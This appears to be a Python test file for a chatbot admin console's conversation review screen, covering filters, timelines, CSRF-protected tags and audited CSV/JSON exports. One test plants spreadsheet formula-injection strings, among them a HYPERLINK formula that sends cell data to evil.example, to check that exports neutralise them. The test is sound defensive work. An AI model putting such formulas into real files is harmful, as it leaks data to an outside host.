"""The review screen in the console: filters, timeline, tags and audited exports."""

from __future__ import annotations

import csv
import io

from bot.conversations.log import ConversationLog
from tests.test_console import PASSWORD, csrf_of, login  # noqa: F401  (fixtures below)
from tests.test_review import bot, slots, ts, user


def _seed(services) -> None:
    log = ConversationLog(services.engine)
    for e in [
        user("c-paypal", "can I pay with paypal?", "payment_methods", 0.93, ts(0)),
        *bot("c-paypal", "Yes.\n\nSource: FAQ 'payments-paypal' (x.yml), knowledge ab", ts(0) + 1,
             "action_answer_faq", faq_decision="answer"),
        *slots("c-paypal", ts(0) + 1.5, ["faq:payments-paypal"], 0.81),
        user("c-blorp", "blorp zzz", "nlu_fallback", 0.31, ts(1)),
    ]:  # fmt: skip
        log.write(e)


async def admin(client, web_services) -> str:
    web_services.agents.create("sam", "Sam", PASSWORD, role="admin")
    _seed(web_services)
    return await login(client, "sam")


async def test_the_review_list_filters_by_outcome_and_words(client, web_services):
    await admin(client, web_services)
    page = await (await client.get("/console/admin/conversations?outcome=fallback")).text()
    assert "c-blorp" in page and "c-paypal" not in page
    page = await (await client.get("/console/admin/conversations?q=paypal")).text()
    assert "c-paypal" in page and "c-blorp" not in page
    assert (await client.get("/console/admin/conversations?outcome=happy")).status == 400
    assert (await client.get("/console/admin/conversations?agent=sam")).status == 400


async def test_the_timeline_shows_ranking_and_faq_decision(client, web_services):
    await admin(client, web_services)
    page = await (await client.get("/console/admin/conversations/c-paypal")).text()
    assert "ranking: payment_methods 0.93, greet 0.07" in page
    assert "FAQ answer (best 0.81): faq:payments-paypal" in page
    data = await (await client.get("/console/admin/conversations/c-paypal/timeline.json")).json()
    assert data["messages"][1]["faq_decision"] == "answer" and data["total"] == 2


async def test_tags_need_the_csrf_token_and_filter_the_list(client, web_services):
    token = await admin(client, web_services)
    path = "/console/admin/conversations/c-blorp/tags"
    assert (await client.post(path, data={"tag": "bug"})).status == 403
    page = await (await client.post(path, data={"tag": "Bug", "csrf": token})).text()
    assert '<span class="tag">bug</span>' in page
    listed = await (await client.get("/console/admin/conversations?tag=bug")).text()
    assert "c-blorp" in listed and "c-paypal" not in listed
    await client.post(f"{path}/remove", data={"tag": "bug", "csrf": token})
    assert '<span class="tag">' not in await (await client.get(path[: -len("/tags")])).text()


async def test_exports_hold_the_filtered_set_and_are_audited(client, web_services):
    await admin(client, web_services)
    response = await client.get("/console/admin/conversations.csv?q=paypal")
    assert response.content_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [(r["conversation_id"], r["from"]) for r in rows] == [
        ("c-paypal", "customer"),
        ("c-paypal", "bot"),
    ]
    data = await (await client.get("/console/admin/conversations.json?outcome=fallback")).json()
    assert [c["id"] for c in data] == ["c-blorp"]
    entries, total = web_services.audit.page(action="export")
    assert total == 2
    assert entries[0].detail == {
        "what": "conversations",
        "format": "json",
        "filter": {"outcome": "fallback"},
        "conversations": 1,
        "messages": 1,
    }
    assert entries[1].detail["filter"] == {"q": "paypal"} and entries[1].actor == "sam"


async def test_customer_text_that_looks_like_a_formula_is_exported_as_text(client, web_services):
    await admin(client, web_services)
    planted = [
        '=HYPERLINK("https://evil.example/?d="&A1,"Refund")',
        "+44 is my code",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ]
    log = ConversationLog(web_services.engine)
    for i, text in enumerate(planted):
        log.write(user("c-evil", text, "nlu_fallback", 0.2, ts(10 + i)))
    response = await client.get("/console/admin/conversations.csv")
    body = await response.text()
    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["conversation_id"] == "c-evil"]
    assert [r["text"] for r in rows] == ["'" + text for text in planted]


async def test_a_transcript_shows_with_an_unreadable_faq_folder(
    aiohttp_client, rasa, web_services, tmp_path
):
    """An empty FAQ folder made the transcript a 500 (found by the ReDoS live check): the
    page shows, and says why no FAQ can be picked."""
    from bot.web import create_app
    from tests.conftest import web_settings

    empty = tmp_path / "no-faqs"
    empty.mkdir()
    settings = web_settings(str(rasa.make_url("")).rstrip("/"), tmp_path, faq_dir=empty)
    client = await aiohttp_client(create_app(settings, web_services))
    await admin(client, web_services)
    response = await client.get("/console/admin/conversations/c-paypal")
    assert response.status == 200
    assert "The FAQ entries cannot be read: no FAQ entries found" in await response.text()


class FakeReview:
    """Stands in for `Services.review`: the review views need nothing else from the database
    layer (no engine), so this is all a test of the screen has to provide."""

    def __init__(self) -> None:
        from datetime import datetime

        from bot.conversations.review import ReviewRow, TimelineMessage

        at = datetime(2026, 11, 12, 8, 30)
        self.row = ReviewRow("c-fake", "telegram", "paused", None, at, at, 1, True, ("bug",))
        self.message = TimelineMessage(
            id=41, sender="customer", text="my kettle hums", at=at, agent=None,
            intent="product_question", confidence=0.61, entities=(), negativity=None,
            action=None, latency_ms=None, faq_candidates=(), faq_best_score=None,
            faq_decision=None, buttons=(),
        )  # fmt: skip
        self.asked: list[tuple] = []

    def find(self, f, page=1, per_page=25):
        from bot.conversations.review import ReviewPage

        self.asked.append(("find", f, page))
        return ReviewPage((self.row,), 1)

    def facets(self):
        from bot.conversations.review import AgentChoice, Facets

        return Facets(("product_question",), ("telegram",), (AgentChoice(7, "Robin"),), ("bug",))

    def timeline(self, conversation_id, page=1, per_page=100):
        from bot.conversations.review import Timeline

        self.asked.append(("timeline", conversation_id, page))
        return Timeline(None, (self.message,), 1, tags=("bug",))

    def add_tag(self, conversation_id, tag, actor):
        self.asked.append(("add_tag", conversation_id, tag, actor))
        return True

    def remove_tag(self, conversation_id, tag):
        self.asked.append(("remove_tag", conversation_id, tag))
        return True

    def export(self, f, limit=10_000):
        from bot.conversations.review import ExportedConversation

        self.asked.append(("export", f))
        return [ExportedConversation(self.row, (self.message,))]


async def test_the_review_screen_shows_what_the_review_service_returns(
    aiohttp_client, rasa, web_services, tmp_path
):
    """A fake review service in place of the database: the list, the timeline, tags and the
    export show and send what it returns, and the filter reaches it parsed."""
    import dataclasses

    from bot.conversations.review import Outcome
    from bot.web import create_app
    from tests.conftest import web_settings

    fake = FakeReview()
    settings = web_settings(str(rasa.make_url("")).rstrip("/"), tmp_path)
    services = dataclasses.replace(web_services, review=fake)
    client = await aiohttp_client(create_app(settings, services))
    token = await admin(client, web_services)

    listed = await (await client.get("/console/admin/conversations?outcome=fallback")).text()
    assert "c-fake</a> <small>(handed off)</small>" in listed and "Robin" in listed
    assert "c-paypal" not in listed  # the seeded database was not asked
    (_, f, page) = fake.asked[0]
    assert (f.outcome, page) == (Outcome.FALLBACK, 1)

    shown = await (await client.get("/console/admin/conversations/c-fake")).text()
    assert "2026-11-12T08:30:00" in shown and "my kettle hums" in shown
    assert '<span class="tag">bug</span>' in shown
    data = await (await client.get("/console/admin/conversations/c-fake/timeline.json")).json()
    assert data["messages"][0]["from"] == "customer" and data["total"] == 1

    await client.post("/console/admin/conversations/c-fake/tags", data={"tag": "x", "csrf": token})
    assert ("add_tag", "c-fake", "x", "sam") in fake.asked

    rows = list(csv.DictReader(io.StringIO(await (await client.get(
        "/console/admin/conversations.csv")).text())))  # fmt: skip
    assert [(r["conversation_id"], r["text"], r["tags"]) for r in rows] == [
        ("c-fake", "my kettle hums", "bug")
    ]
